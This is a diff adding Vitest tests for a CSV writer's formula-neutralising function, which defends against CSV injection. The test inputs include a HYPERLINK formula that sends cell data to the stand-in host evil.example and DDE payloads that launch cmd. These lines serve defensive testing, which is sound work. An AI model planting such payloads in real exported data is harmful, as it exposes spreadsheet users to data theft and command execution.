@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { csvLine, csvField } from '../../../src/formats/csv/writer.js';
+import { csvLine, csvField, neutraliseFormula } from '../../../src/formats/csv/writer.js';
 
 /** Deterministic pseudo-random strings rich in the characters CSV quoting is about. */
 function* strings(seed: number, n: number): Generator<string> {
@@ -17,6 +17,18 @@ function* strings(seed: number, n: number): Generator<string> {
     yield s;
   }
 }
+
+describe('formula neutralising (CSV injection)', () => {
+  it('prefixes text a spreadsheet would run as a formula with a quote', () => {
+    for (const attack of ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'])
+      expect(neutraliseFormula(attack), attack).toBe(`'${attack}`);
+  });
+
+  it('leaves plain text, numbers and phone numbers alone', () => {
+    for (const plain of ['hello = world', "it's", '', '+15550001002', '-3', '+1 (555) 000-1234', '+15550001001; +15550001002', '*#06#', '-12.5'])
+      expect(neutraliseFormula(plain), plain).toBe(plain);
+  });
+});
 
 describe('CSV writer (RFC 4180)', () => {
   it('quotes only what needs quoting and doubles quotes', () => {
